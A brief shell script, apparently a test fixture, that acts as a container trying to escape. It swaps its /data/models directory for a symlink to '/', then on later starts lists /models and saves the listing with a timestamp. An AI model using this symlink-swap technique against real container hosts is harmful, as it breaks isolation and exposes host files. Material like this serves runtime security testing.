# A container that tries to escape: in its first start and in all that follow.
b=/bin/busybox
if [ ! -e /data/done ]; then
  $b mv /data/models /data/gone && $b ln -s / /data/models && $b touch /data/done
  exit 1
fi
$b ls -a /models >/data/.seen && $b mv /data/.seen /data/seen-$($b date +%s)
$b sleep 1000
